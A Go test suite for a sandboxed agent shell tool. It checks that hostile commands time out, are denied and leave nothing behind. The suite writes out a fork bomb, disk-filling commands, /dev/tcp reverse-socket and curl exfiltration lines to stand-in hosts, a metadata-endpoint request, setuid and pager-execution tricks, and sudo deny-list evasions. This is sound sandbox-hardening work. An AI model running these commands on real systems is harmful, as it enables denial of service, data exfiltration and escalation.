package shell

import (
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"golang.org/x/sys/unix"

	"scupper.dev/scupper/capability"
	"scupper.dev/scupper/sandbox"
)

// ends is how long a hostile command may take at most, its own time included, on a machine
// that has other things to do.
const ends = 60 * time.Second

// TestHostileCommands runs what is meant to hang the tool, to fill the machine or to stay.
// Each ends in time with an honest result, the next call works, and nothing is left.
func TestHostileCommands(t *testing.T) {
	w := newWorld(t, func(c *Config) {
		c.Cage.Limits = sandbox.Limits{Processes: 150, Scratch: 48 << 20}
		if os.Geteuid() == 0 {
			c.Cage.Limits.Memory = 128 << 20
		}
	})
	for name, c := range map[string]struct {
		script  string
		timeout int64
		honest  func(a answer) bool
	}{
		"fork bomb": {"bomb() { bomb | bomb & }; bomb; sleep 1000", 3, func(a answer) bool {
			return a.TimedOut || a.exit() != 0
		}},
		"processes that stay": {"for i in $(seq 50); do setsid sleep 1000 & done; echo started", 0, func(a answer) bool {
			return a.exit() == 0 && a.Output == "started\n"
		}},
		"holds standard output": {"setsid sleep 1000 & echo started", 0, func(a answer) bool {
			return a.exit() == 0 && a.Output == "started\n" && a.took < 30*time.Second
		}},
		"reads standard input": {"cat; read x; echo \"[$x]$?\"", 0, func(a answer) bool {
			return a.exit() == 0 && a.Output == "[]1\n"
		}},
		"ignores TERM": {"trap '' TERM INT HUP; echo deaf; while :; do sleep 0.01; done", 1, func(a answer) bool {
			return a.TimedOut && a.exit() == 124 && a.Output == "deaf\n"
		}},
		"stops itself": {"echo halt; kill -STOP $$", 1, func(a answer) bool {
			return a.TimedOut && a.Output == "halt\n"
		}},
		"fills the disk": {"head -c 1G /dev/zero > /tmp/full; echo $?; head -c 1G /dev/zero > ~/full; stat -c %s /tmp/full", 30, func(a answer) bool {
			return a.exit() == 0 && strings.Contains(a.Output, "No space left on device") && !a.TimedOut
		}},
		"many files": {"for i in $(seq 60000); do : > /tmp/$i || exit 7; done 2>/dev/null", 40, func(a answer) bool {
			return a.exit() == 7 || a.TimedOut
		}},
		"TOOL-15 escapes": {`printf '\033]52;c;ZXZpbA==\007\033[2J\r\302\233x\342\200\256'`, 0, func(a answer) bool {
			return a.Output == "␛]52;c;ZXZpbA==␇␛[2J␍<U+009B>x<U+202E>" && strings.Contains(a.text, "U+202E (1)") && !strings.ContainsRune(a.text, 0x1b)
		}},
		"invalid UTF-8": {`printf 'a\377\376\303b'`, 0, func(a answer) bool {
			return a.exit() == 0 && a.Output == "a\uFFFD\uFFFD\uFFFDb" && a.Bytes == 5 && strings.Contains(a.text, "3 bytes are not UTF-8")
		}},
		"no text at all": {"head -c 300000 /dev/urandom", 0, func(a answer) bool {
			return a.exit() == 0 && a.Bytes == 300000 && a.Truncated && utf8.ValidString(a.text)
		}},
		"TOOL-14 one huge line": {"head -c 20000000 /dev/zero | tr '\\0' x; echo; echo end", 0, func(a answer) bool {
			return a.Bytes == 20000005 && a.Truncated && strings.HasPrefix(a.Output, "xxx") && strings.HasSuffix(a.Output, "x\nend\n") && utf8.ValidString(a.Output)
		}},
		"TOOL-13 without end": {"yes", 2, func(a answer) bool {
			return a.TimedOut && a.Truncated && strings.HasPrefix(a.Output, "y\ny\n") && strings.HasSuffix(a.Output, "y\n")
		}},
		"kills everything": {"kill -9 -1; kill -9 1; echo here", 0, func(a answer) bool {
			return !a.Failed || strings.Contains(a.text, "sandbox failed")
		}},
	} {
		t.Run(name, func(t *testing.T) { w.hostile(t, arguments{Command: c.script, Timeout: c.timeout}, c.honest) })
	}
}

// hostile runs one command, looks at its result, and whether the next call works.
func (w *world) hostile(t *testing.T, a arguments, honest func(a answer) bool) {
	t.Helper()
	got := w.callAs(t, t.Context(), "dev", a)
	if !honest(got) || got.took > ends {
		t.Errorf("after %v: %+v\n%.2000s", got.took, got.facts, got.text)
	}
	next := w.callAs(t, t.Context(), "dev", arguments{Command: "echo fine"})
	if next.Output != "fine\n" || next.exit() != 0 {
		t.Errorf("the next call: %s", next.text)
	}
	w.nothingLives()
}

// TestAllocatesWithoutEnd needs a limit of memory: that of the sandbox where there are
// control groups to be had, which the ordinary user of this test has not, or its own.
func TestAllocatesWithoutEnd(t *testing.T) {
	w := newWorld(t, func(c *Config) {
		if os.Geteuid() == 0 {
			c.Cage.Limits.Memory = 64 << 20
		}
	})
	if os.Geteuid() == 0 {
		w.hostile(t, arguments{Command: "echo begun; tail /dev/zero; echo survived", Timeout: 40}, func(a answer) bool {
			return a.OutOfMemory && a.exit() == 137 && strings.HasPrefix(a.Output, "begun\n") && !strings.Contains(a.Output, "survived") &&
				strings.Contains(strings.Join(a.Limits, " "), "memory") && strings.Contains(a.text, "all of its memory")
		})
		return
	}
	w.hostile(t, arguments{Command: "ulimit -v 200000; tail /dev/zero", Timeout: 40}, func(a answer) bool {
		return !a.Failed && !a.OutOfMemory && a.exit() != 0 && a.exit() != -1
	})
}

// TestGigabyte is TOOL-13: a gigabyte of output in bounded memory.
func TestGigabyte(t *testing.T) {
	w := newWorld(t, nil)
	w.shell("true")
	runtime.GC()
	before := peak(t)
	w.hostile(t, arguments{Command: "yes 'a line of output' | head -c 1000000000", Timeout: 110}, func(a answer) bool {
		return a.exit() == 0 && a.Bytes == 1_000_000_000 && a.Whole == 1_000_000_000 && a.Truncated && strings.Contains(a.text, "has the first 67108864 of 1000000000 bytes")
	})
	// The kernel's count of pages that were ever resident, which grows with the runtime's own habits, too.
	if grown := peak(t) - before; grown > 64<<10 {
		t.Errorf("the process grew by %d KiB", grown)
	}
}

// peak is the most memory that this process has had, in KiB (proc_pid_status(5), VmHWM).
func peak(t *testing.T) int {
	t.Helper()
	text, err := os.ReadFile("/proc/self/status")
	if err != nil {
		t.Fatal(err)
	}
	for line := range strings.Lines(string(text)) {
		if f := strings.Fields(line); len(f) > 1 && f[0] == "VmHWM:" {
			n, err := strconv.Atoi(f[1])
			if err != nil {
				t.Fatal(err)
			}
			return n
		}
	}
	t.Fatal("no VmHWM")
	return 0
}

// TestNetwork tries every way out, after the one that is granted. Nothing arrives, and
// each attempt is on record with the ID of its call.
func TestNetwork(t *testing.T) {
	w := newWorld(t, nil)
	control := w.call(arguments{Command: "curl -sS --max-time 20 http://api.example.com/"})
	if control.Output != "from afar" || w.far.got.Load() != 1 {
		t.Fatalf("the granted request: %s", control.text)
	}
	if rs := w.records(control.id); len(rs) == 0 || rs[len(rs)-1].Status != 200 {
		t.Errorf("records of the granted request: %+v", rs)
	}
	for name, c := range map[string]struct{ script, kind, what string }{
		"a name":              {"getent hosts evil.example", "name", "evil.example"},
		"a path":              {"curl -sS --max-time 20 http://api.example.com/upload", "http", "api.example.com"},
		"a method":            {"curl -sS --max-time 20 -d secret http://api.example.com/", "http", "api.example.com"},
		"an address":          {"curl -sS --max-time 20 http://192.0.2.1/", "http", "192.0.2.1"},
		"another port":        {"exec 3<>/dev/tcp/192.0.2.1/4444", "packet", "192.0.2.1"},
		"the host's loopback": {"exec 3<>/dev/tcp/10.0.0.1/" + strconv.Itoa(w.far.port), "packet", "10.0.0.1"},
		"UDP":                 {"echo x > /dev/udp/192.0.2.1/5555", "packet", "192.0.2.1"},
		"IPv6":                {"exec 3<>/dev/tcp/2001:db8::1/4444", "packet", "2001:db8::1"},
		"metadata":            {"curl -sS --max-time 20 http://169.254.169.254/latest/meta-data/", "http", "169.254.169.254"},
		"TOOL-23 a helper":    {"setsid bash -c 'exec 3<>/dev/tcp/192.0.2.7/4444' </dev/null; sleep 0.3", "packet", "192.0.2.7"},
		"SBX-14 argv[0]":      {"bash -c 'exec -a scupper curl -sS --max-time 20 http://api.example.com/argv'", "http", "api.example.com"},
		"SBX-16 an interpreter": {
			"printf 'url=http://api.example.com/injected\\n' > c; curl -sS --max-time 20 -K c; printf 'exec 3<>/dev/tcp/192.0.2.9/4444' > env.sh; BASH_ENV=env.sh bash -c :", "packet", "192.0.2.9",
		},
	} {
		t.Run(name, func(t *testing.T) {
			a := w.callAs(t, t.Context(), "dev", arguments{Command: c.script, Timeout: 60})
			if a.Failed || a.TimedOut {
				t.Error(a.text)
			}
			found := false
			for _, r := range w.records(a.id) {
				if r.Verdict == "allow" && r.Kind != string(capability.KindName) {
					t.Errorf("allowed: %+v", r)
				}
				// A client that is slow to speak to what is not granted is refused before it has.
				kind := r.Kind == c.kind || c.kind == "http" && r.Kind == "connect"
				found = found || r.Verdict == "deny" && kind && (r.Host == c.what || strings.Contains(r.Address, c.what))
			}
			if !found {
				t.Errorf("no denial of kind %s for %s on record: %+v\n%s", c.kind, c.what, w.records(a.id), a.text)
			}
		})
	}
	if n := w.far.got.Load(); n != 1 {
		t.Errorf("%d requests arrived, want the granted one", n)
	}
	// A role without the grant has not even that one.
	idle := w.callAs(t, t.Context(), "idle", arguments{Command: "curl -sS --max-time 20 http://api.example.com/"})
	if idle.exit() == 0 && strings.Contains(idle.Output, "afar") || w.far.got.Load() != 1 {
		t.Errorf("a role without grants: %s", idle.text)
	}
	for _, r := range w.records("") {
		if r.Verdict != "" && r.Call == "" {
			t.Errorf("a record without its call: %+v", r)
		}
	}
}

// TestNoWayToRoot is SBX-09: nothing inside is root, or leads there.
func TestNoWayToRoot(t *testing.T) {
	w := newWorld(t, nil)
	t.Run("SBX-09 no group, no privilege", func(t *testing.T) {
		got := w.shell("id -u; id -G; grep -E 'NoNewPrivs|Cap(Inh|Prm|Eff|Bnd|Amb)' /proc/self/status; ls /var/run/docker.sock /run/docker.sock /run/containerd 2>&1 | grep -vc 'No such'; true")
		want := "1000\n1000\n"
		for _, set := range []string{"Inh", "Prm", "Eff", "Bnd", "Amb"} {
			want += "Cap" + set + ":\t0000000000000000\n"
		}
		want += "NoNewPrivs:\t1\n0\n"
		if got != want {
			t.Errorf("got %q, want %q", got, want)
		}
	})
	t.Run("SBX-09 set-user-id programs", func(t *testing.T) {
		got := w.shell("cp /bin/bash b; chmod 4755 b 2>/dev/null; ./b -p -c 'id -u'; for s in $(find /usr/bin -perm -4000 2>/dev/null | head -3); do $s --version >/dev/null 2>&1 </dev/null; done; id -u")
		if got != "1000\n1000\n" {
			t.Errorf("%q", got)
		}
	})
}

// TestReadOnlyCommands is TOOL-11: commands that look harmless can execute others. There
// is nothing that takes them for harmless: the tool has one level, and the sandbox holds
// whatever they execute.
func TestReadOnlyCommands(t *testing.T) {
	w := newWorld(t, nil)
	if level := w.tool.Entry().Definition.Level; level != "irreversible_write" {
		t.Errorf("level %s", level)
	}
	secret := filepath.Join(filepath.Dir(w.work), "audit")
	evil := "#!/bin/sh\necho executed >> $HOME/ran; cat " + secret + "/*/*.jsonl >> $HOME/ran 2>&1; echo x > /usr/bin/x 2>/dev/null; exec 3<>/dev/tcp/192.0.2.1/4444\n"
	if err := os.WriteFile(filepath.Join(w.work, "evil"), []byte(evil), 0o755); err != nil {
		t.Fatal(err)
	}
	for name, script := range map[string]string{
		"TOOL-11 sort --compress-program": "seq 300000 | sort -S 1k --compress-program=./evil >/dev/null 2>&1; cat ~/ran",
		"TOOL-11 find -exec":              "find evil -exec ./{} \\; 2>/dev/null; cat ~/ran",
		"TOOL-11 git pager":               "env PAGER=./evil GIT_PAGER=./evil sh -c '$PAGER' 2>/dev/null; cat ~/ran",
	} {
		t.Run(name, func(t *testing.T) {
			a := w.callAs(t, t.Context(), "dev", arguments{Command: script, Timeout: 60})
			if !strings.HasPrefix(a.Output, "executed\n") {
				t.Fatalf("it was not executed: %s", a.text)
			}
			if strings.Contains(a.Output, "run_started") {
				t.Error("it read the log")
			}
		})
	}
	if _, err := os.Stat("/usr/bin/x"); err == nil {
		t.Error("it wrote outside")
	}
}

// TestDenyListIsNotTheBoundary is TOOL-12: whatever the spelling, sudo gives nothing. The
// list tells the model so for the spellings that it knows, without running anything.
func TestDenyListIsNotTheBoundary(t *testing.T) {
	w := newWorld(t, func(c *Config) { c.DenyCommands = []string{"sudo"} })
	for _, script := range []string{"sudo -n id", "/usr/bin/sudo -n id", "s''udo -n id", "cd / && sudo -n id", "echo id | xargs sudo -n", "(env sudo -n id)", "x=sudo; $x -n id"} {
		a := w.call(arguments{Command: "touch ran; " + script})
		if !a.Failed || !strings.Contains(a.text, `"sudo"`) || !strings.Contains(a.text, "deny_commands") || a.ExitCode != nil {
			t.Errorf("TOOL-12 %s: %s", script, a.text)
		}
	}
	if _, err := os.Stat(filepath.Join(w.work, "ran")); err == nil {
		t.Error("a refused command ran")
	}
	for _, script := range evasions() {
		if a := w.call(arguments{Command: script}); strings.Contains(a.text, "uid=0") || a.Failed {
			t.Errorf("TOOL-12 %s: %s", script, a.text)
		}
	}
}

// TestDescriptors makes many calls: none leaves a descriptor or a goroutine.
func TestDescriptors(t *testing.T) {
	w := newWorld(t, nil)
	count := func() (files, goroutines int) {
		for fd := range 1024 {
			if _, err := unix.FcntlInt(uintptr(fd), unix.F_GETFD, 0); err == nil {
				files++
			}
		}
		return files, runtime.NumGoroutine()
	}
	w.shell("curl -sS http://api.example.com/")
	files, goroutines := count()
	for i := range 20 {
		w.shell(fmt.Sprintf("curl -sS http://api.example.com/; echo %d", i))
	}
	var f, g int
	for until := time.Now().Add(20 * time.Second); time.Now().Before(until); time.Sleep(50 * time.Millisecond) {
		if f, g = count(); f <= files+2 && g <= goroutines+4 {
			return
		}
	}
	t.Errorf("%d descriptors and %d goroutines, before there were %d and %d", f, g, files, goroutines)
}
